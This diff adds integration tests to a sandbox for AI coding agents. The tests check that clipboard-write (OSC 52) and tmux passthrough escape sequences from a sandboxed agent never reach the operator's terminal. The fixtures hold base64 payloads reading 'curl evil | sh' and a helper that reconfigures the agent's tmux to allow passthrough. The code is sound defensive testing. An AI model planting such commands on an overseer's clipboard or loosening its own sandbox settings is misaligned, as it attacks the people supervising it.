@@ -1,16 +1,22 @@
 """The operator's terminal, attacked from inside a session: what the session writes to
 its logs comes out of `logs --raw` escaped on a terminal (no clipboard write, title,
-screen clear or forged PASS line reaches it), and `shell` reads none of the startup
-files the agent can write."""
+screen clear or forged PASS line reaches it); `attach` and `shell` drop clipboard
+writes and passthrough sequences on the way, however the agent has set its tmux; and
+`shell` reads none of the startup files the agent can write."""
 
 from __future__ import annotations
 
+import base64
+import fcntl
 import re
+import struct
+import termios
+import time
 
 import pytest
 
 from tests.conftest import Cage, logs_bytes
-from tests.integration.terminal import Terminal
+from tests.integration.terminal import DETACH, Terminal
 from tests.integration.test_attach import on_a_tty
 
 pytestmark = pytest.mark.engine
@@ -82,3 +88,119 @@ def test_shell_reads_no_startup_file_the_agent_wrote(cage_module: Cage, session:
     assert "answer-42" in out
     assert "PLANTED" not in out and "root@host" not in out
     assert f"[cage {session}] /workspace $" in out
+
+
+# What the agent puts on the operator's clipboard, three ways: an OSC 52 of its own,
+# one wrapped in tmux's passthrough (which its tmux unwraps), and one wrapped twice
+# (its tmux unwraps one level, so a passthrough DCS itself reaches the terminal).
+DIRECT = base64.b64encode(b"direct: curl evil | sh").decode()
+WRAPPED = base64.b64encode(b"wrapped: curl evil | sh").decode()
+TWICE = base64.b64encode(b"twice: curl evil | sh").decode()
+CLIPBOARD = (
+    f"\\033]52;c;{DIRECT}\\007"
+    f"\\033Ptmux;\\033\\033]52;c;{WRAPPED}\\007\\033\\\\"
+    f"\\033Ptmux;\\033\\033Ptmux;\\033\\033\\033\\033]52;c;{TWICE}\\007"
+    f"\\033\\033\\\\\\033\\\\"
+)
+TMUX = "tmux -f /etc/cage/tmux.conf -S /run/cage/tmux.sock"
+
+
+def wait_for(check, timeout: float = 60):  # type: ignore[no-untyped-def]
+    deadline = time.monotonic() + timeout
+    while time.monotonic() < deadline:
+        if found := check():
+            return found
+        time.sleep(0.2)
+    raise AssertionError("timed out")
+
+
+def agent_owns_its_tmux(cage: Cage, name: str) -> None:
+    """What an agent can do to its own tmux: pass clipboard writes and passthrough on to
+    the terminals attached, and run a pane of its choosing (here, one that waits)."""
+    state = lambda: cage("exec", name, "--", "cage-agent", "state").stdout  # noqa: E731
+    wait_for(lambda: state().startswith("exited"))  # no network: Claude Code gave up
+    script = (
+        f"{TMUX} set -g set-clipboard on && {TMUX} set -g allow-passthrough on && "
+        f"rm -f /run/cage/agent.status && {TMUX} respawn-pane -k -t agent: 'sleep 3600'"
+    )
+    done = cage("exec", name, "--", "sh", "-c", script)
+    assert done.code == 0, done.output
+    assert state().startswith("running")
+
+
+def agent_prints(cage: Cage, name: str, text: str) -> None:
+    """The agent writes to its own pane's terminal, as any command of it can."""
+    script = f"printf '{text}' > \"$({TMUX} display -p -t agent: '#{{pane_tty}}')\""
+    done = cage("exec", name, "--", "sh", "-c", script)
+    assert done.code == 0, done.output
+
+
+def attach_and_receive(cage: Cage, name: str, *flags: str) -> bytes:
+    """Every byte `attach` writes to the operator's terminal while the agent prints its
+    clipboard writes, then a marker; detached with Ctrl-\\."""
+    terminal = Terminal(["claude-cage", "attach", name, *flags], cage.env)
+    try:
+        clients = lambda: cage("exec", name, "--", "cage-agent", "clients").stdout.strip()  # noqa: E731
+        wait_for(lambda: clients() == "1")
+        agent_prints(cage, name, CLIPBOARD + "printed-after")
+        terminal.expect("printed-after")
+        terminal.type(DETACH)
+        assert terminal.wait() == 0
+    finally:
+        terminal.close()
+    return terminal.output
+
+
+@pytest.fixture
+def tmux_session(cage: Cage) -> str:
+    name = cage.name("osc")
+    assert cage("start", "--name", name, "--network", "none", "--detach").code == 0
+    agent_owns_its_tmux(cage, name)
+    return name
+
+
+def test_attach_drops_clipboard_writes_and_passthrough(cage: Cage, tmux_session: str) -> None:
+    out = attach_and_receive(cage, tmux_session)
+    assert b"\x1b]52" not in out and b"\x1bPtmux;" not in out
+    for payload in (DIRECT, WRAPPED, TWICE):
+        assert payload.encode() not in out
+    # The same through --raw-terminal: the bytes do reach the terminal, so the test sees them.
+    raw = attach_and_receive(cage, tmux_session, "--raw-terminal")
+    assert re.search(rf"\x1b]52;c?;{DIRECT}\x07".encode(), raw)  # tmux's, set-clipboard on
+    assert f"\x1b]52;c;{WRAPPED}\x07".encode() in raw  # unwrapped by allow-passthrough
+    assert f"\x1bPtmux;\x1b\x1b]52;c;{TWICE}".encode() in raw  # a DCS, one level left
+
+
+def test_shell_drops_clipboard_writes_and_passthrough(cage_module: Cage, session: str) -> None:
+    keys = f"printf '{CLIPBOARD}'; echo done-$((6*7)); exit\n".encode()
+    out = on_a_tty(cage_module, ["claude-cage", "shell", session], keys, timeout=60)
+    assert "done-42" in out
+    assert "\x1b]52" not in out and "\x1bPtmux;" not in out
+    raw = on_a_tty(cage_module, ["claude-cage", "shell", "--raw-terminal", session], keys)
+    assert f"\x1b]52;c;{DIRECT}\x07" in raw and "\x1bPtmux;" in raw
+
+
+def test_shell_follows_the_terminals_size(cage_module: Cage, session: str) -> None:
+    terminal = Terminal(["claude-cage", "shell", session], cage_module.env, rows=30, cols=100)
+
+    def size_shows(size: str) -> None:
+        """The engine sets an exec's size just after it starts: ask until it has."""
+        for _ in range(20):
+            mark = terminal.type(b"stty size\n")
+            try:
+                terminal.expect(size, timeout=1, since=mark)
+                return
+            except AssertionError:
+                continue
+        raise AssertionError(f"the shell never saw {size}: {terminal.output[-300:]!r}")
+
+    try:
+        terminal.expect(f"[cage {session}]")
+        size_shows("30 100")
+        # The terminal is resized: the kernel signals claude-cage, which passes it on.
+        fcntl.ioctl(terminal.master, termios.TIOCSWINSZ, struct.pack("HHHH", 33, 91, 0, 0))
+        size_shows("33 91")
+        terminal.type(b"exit 3\n")
+        assert terminal.wait() == 3
+    finally:
+        terminal.close()
